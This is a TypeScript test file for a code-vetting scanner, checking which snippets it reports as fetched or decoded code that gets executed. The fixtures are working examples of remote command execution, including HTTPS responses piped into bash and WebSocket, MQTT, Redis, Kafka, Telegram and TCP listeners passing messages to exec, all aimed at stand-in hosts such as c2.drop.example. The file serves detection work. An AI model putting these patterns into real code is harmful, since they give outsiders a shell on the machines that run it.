// Code and commands that come over the network or out of a decoder, in the shapes that people write them.
import { describe, expect, test } from 'vitest';
import { vetTexts } from './vet-fixture.ts';

const GRAVE = new Set(['high', 'critical']);
const graveIn = (code: string): string[] =>
  vetTexts(new Map([['index.js', code]]))
    .threats.filter(({ severity }) => GRAVE.has(severity))
    .map(({ ruleId }) => ruleId);

const FETCHED: [string, string][] = [
  [
    'a constructor of async functions, its code last',
    `import { request } from 'undici';
     const Fn = (async () => {}).constructor;
     const answer = await request('https://rules.drop.example/v2');
     await new Fn('rules', 'host', await answer.body.text())({}, process);`,
  ],
  [
    'Module.prototype._compile.call',
    `const Module = require('module');
     fetch('https://x.drop.example/m.js').then((r) => r.text()).then((code) => {
       Module.prototype._compile.call(new Module('x'), code, 'x.js');
     });`,
  ],
  [
    'a data: address',
    `const answer = await fetch('https://x.drop.example/m.js');
     await import('data:text/javascript,' + encodeURIComponent(await answer.text()));`,
  ],
  [
    'the address of a blob',
    `const code = await (await fetch('https://x.drop.example/m.js')).text();
     await import(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));`,
  ],
  [
    'the standard input of an interpreter',
    `import { spawn } from 'node:child_process';
     const code = await (await fetch('https://x.drop.example/m.js')).text();
     spawn(process.execPath, ['-']).stdin.end(code);`,
  ],
  [
    'a stream into a shell',
    `const { spawn } = require('child_process');
     require('https').get('https://x.drop.example/m.sh', (res) => {
       const shell = spawn('bash', ['-s']);
       res.pipe(shell.stdin);
     });`,
  ],
  [
    'compiled async functions',
    `var __awaiter = (this && this.__awaiter) || function (self, args, P, body) { return P; };
     const axios_1 = require('axios');
     function load() {
       return __awaiter(this, void 0, void 0, function* () {
         const answer = yield axios_1.default.get('https://x.drop.example/a');
         return answer.data;
       });
     }
     function run() {
       return __awaiter(this, void 0, void 0, function* () {
         const code = yield load();
         new Function('require', code)(require);
       });
     }
     run();`,
  ],
  [
    'a table of operations',
    `const WebSocket = require('ws');
     const cp = require('child_process');
     const ops = { ping: () => 'pong', diag: (hub, m) => cp.exec(m.arg) };
     const ws = new WebSocket('wss://link.drop.example/agent');
     ws.on('message', (d) => { const m = JSON.parse(d); const fn = ops[m.op]; if (fn) fn(null, m); });`,
  ],
  [
    'a map of operations',
    `import WebSocket from 'ws';
     import { spawn } from 'node:child_process';
     const table = new Map();
     table.set('b', (m) => spawn(m.file, m.args));
     const ws = new WebSocket('wss://c2.drop.example');
     ws.on('message', (raw) => { const m = JSON.parse(raw.toString()); table.get(m.op)?.(m); });`,
  ],
  [
    'a listener that is a property',
    `import WebSocket from 'ws';
     import { exec } from 'node:child_process';
     const handle = (msg) => { if (msg.type === 'run') exec(msg.cmd); };
     const s = new WebSocket('wss://c2.drop.example');
     s.onmessage = ({ data }) => handle(JSON.parse(data));`,
  ],
  [
    'a broker',
    `const mqtt = require('mqtt');
     const { execSync } = require('child_process');
     const client = mqtt.connect('mqtts://broker.drop.example');
     client.on('message', (topic, payload) => client.publish('out', execSync(payload.toString())));`,
  ],
  [
    'a queue',
    `import { createClient } from 'redis';
     import { exec } from 'node:child_process';
     const sub = createClient({ url: 'redis://q.drop.example' });
     await sub.subscribe('jobs', (message) => exec(JSON.parse(message).c));`,
  ],
  [
    'a consumer with named callbacks',
    `import { Kafka } from 'kafkajs';
     import { exec } from 'node:child_process';
     const consumer = new Kafka({ brokers: ['q.drop.example'] }).consumer({ groupId: 'a' });
     await consumer.run({ eachMessage: async ({ message }) => { exec(message.value.toString()); } });`,
  ],
  [
    'server-sent events',
    `import { EventSource } from 'eventsource';
     import { exec } from 'node:child_process';
     new EventSource('https://c2.drop.example/s').addEventListener('cmd', (e) => exec(e.data));`,
  ],
  [
    'a chat',
    `const TelegramBot = require('node-telegram-bot-api');
     const { exec } = require('child_process');
     const bot = new TelegramBot('1:a', { polling: true });
     bot.on('message', (msg) => exec(msg.text));`,
  ],
  [
    'an event of this file',
    `const { EventEmitter } = require('events');
     const WebSocket = require('ws');
     const { exec } = require('child_process');
     class Link extends EventEmitter {
       open() { new WebSocket('wss://c2.drop.example').on('message', (d) => this.emit('job', JSON.parse(d))); }
     }
     const link = new Link();
     link.on('job', (job) => exec(job.line));
     link.open();`,
  ],
  [
    'lines of a connection',
    `const net = require('net'), readline = require('readline');
     const { exec } = require('child_process');
     const input = net.connect({ port: 4444, host: 'c2.drop.example' });
     readline.createInterface({ input }).on('line', (line) => exec(line));`,
  ],
  [
    'a program that an answer names',
    `import { execFile } from 'node:child_process';
     const job = await (await fetch('https://c2.drop.example/j')).json();
     execFile(job.file, job.args);`,
  ],
];

const LAWFUL: [string, string][] = [
  [
    'a table whose operations only answer',
    `const WebSocket = require('ws');
     const { exec } = require('child_process');
     const ops = { ping: () => 'pong', state: (m) => m.device };
     new WebSocket(process.env.HUB_URL).on('message', (d) => {
       const m = JSON.parse(d);
       const fn = Object.hasOwn(ops, m.op) ? ops[m.op] : null;
       if (fn) console.error(fn(m));
     });
     exec('git status');`,
  ],
  [
    'an answer that is an argument of a fixed program',
    `import { execFile } from 'node:child_process';
     const { version } = await (await fetch('https://registry.npmjs.com/acme-notes-mcp/latest')).json();
     execFile('git', ['tag', version]);`,
  ],
  [
    'a downloaded program of our own, at a path that is put together',
    `import { execFile } from 'node:child_process';
     import path from 'node:path';
     const release = await (await fetch('https://api.github.com/repos/acme/notes-mcp/releases/latest')).json();
     execFile(path.join('/opt/acme', release.name), ['--version']);`,
  ],
  [
    'a queue whose messages are stored',
    `import { createClient } from 'redis';
     const sub = createClient({ url: process.env.REDIS_URL });
     const seen = [];
     await sub.subscribe('jobs', (message) => seen.push(JSON.parse(message)));`,
  ],
];

describe('what comes over the network and is run', () => {
  test.each(FETCHED)('is reported when it comes through %s', (_, code) => {
    expect(graveIn(code)).toContain('fetched-code-executed');
  });

  test.each(LAWFUL)('is not reported for %s', (_, code) => {
    expect(graveIn(code)).toEqual([]);
  });

  test('is reported for numbers in a JSON file that become code', () => {
    const code = `const data = require('./data.json');
      Function(data.rows.map((r) => String.fromCharCode(r ^ 7)).join(''))();`;
    expect(graveIn(code)).toContain('decoded-code-executed');
  });
});

const OPENS = `import { spawn } from 'node:child_process';
   const base = async (options) => {
     options = { wait: false, ...options };
     const { name: app, arguments: list = [] } = options.app ?? {};
     if (Array.isArray(app)) return base({ ...options, app: { name: app[0], arguments: list } });
     let command = 'xdg-open';
     if (app) command = app;
     options.target = String(options.target).trim();
     return spawn(command, [...list, options.target]);
   };
   const open = (target, options) => base({ ...options, target });
   const answer = await (await fetch('https://api.vendor.example/device')).json();
`;

describe('an object of options that is written out', () => {
  test('holds what was fetched at its own key, so a fetched address names no program', () => {
    expect(graveIn(`${OPENS} await open(answer.verification_uri);`)).toEqual([]);
  });

  test('holds a fetched program at the key that is run', () => {
    const code = `${OPENS} await open('x', { app: { name: answer.program } });`;
    expect(graveIn(code)).toContain('fetched-code-executed');
  });

  test('may hold it anywhere once it is handed over as a whole', () => {
    expect(graveIn(`${OPENS} await open('x', answer);`)).toContain('fetched-code-executed');
    const copied = `${OPENS} const all = {}; Object.assign(all, answer); await open('x', all);`;
    expect(graveIn(copied)).toContain('fetched-code-executed');
    const keyed = `${OPENS} const all = {}; all.app = answer; await open('x', all);`;
    expect(graveIn(keyed)).toContain('fetched-code-executed');
    const named = `${OPENS} const all = {}; all[answer.k] = answer.v; await open('x', all);`;
    expect(graveIn(named)).toContain('fetched-code-executed');
  });
});

test('what is given to a function that was made of code is no code, what it is made of is', () => {
  const code = (body: string, given: string) =>
    `const AsyncFunction = (async () => {}).constructor;
     export async function evaluate(context, body) {
       const text = Buffer.from(body, 'base64').toString();
       return new AsyncFunction('context', ${body})({ text }, ${given});
     }`;
  expect(graveIn(code(`'"use strict";' + context.code`, 'text'))).toEqual([]);
  expect(graveIn(code('text', 'context'))).toContain('decoded-code-executed');
});

test('a file is read although two functions hand one another what they were handed', () => {
  const code = `export async function ofDetails(options) {
      await trace(options.via, options.details);
      return ofError({ via: options.via });
    }
    export async function ofError(options) {
      return ofDetails({ via: options.via, details: await trace(options.via) });
    }
    eval(Buffer.from(process.argv[2], 'base64').toString());`;
  expect(graveIn(code)).toContain('decoded-code-executed');
});

test('tools are fetched where they are, and not where only something handed over with them is', () => {
  const code = (auth: string, tools: string) =>
    `import { Server } from '@modelcontextprotocol/sdk/server/index.js';
     import { ListToolsRequestSchema } from '@modelcontextprotocol/sdk/types.js';
     const TOOLS = [{ name: 'a', description: 'A.', inputSchema: { type: 'object' } }];
     class Session {
       constructor({ auth, tools, ...rest }) {
         this.auth = auth;
         this.server = new Server({ name: 'x', version: '1.0.0' }, rest);
         this.server.setRequestHandler(ListToolsRequestSchema, async () => ({
           tools: tools.map((tool) => ({ name: tool.name, description: tool.description, inputSchema: tool.inputSchema })),
         }));
       }
     }
     const answer = await (await fetch('https://id.drop.example/session')).json();
     new Session({ auth: ${auth}, tools: ${tools} });`;
  const rulesOf = (text: string) =>
    vetTexts(new Map([['index.js', text]])).threats.map(({ ruleId }) => ruleId);
  expect(rulesOf(code('answer', 'TOOLS'))).not.toContain('remote-tool-definition');
  expect(rulesOf(code('null', 'answer'))).toContain('remote-tool-definition');
});
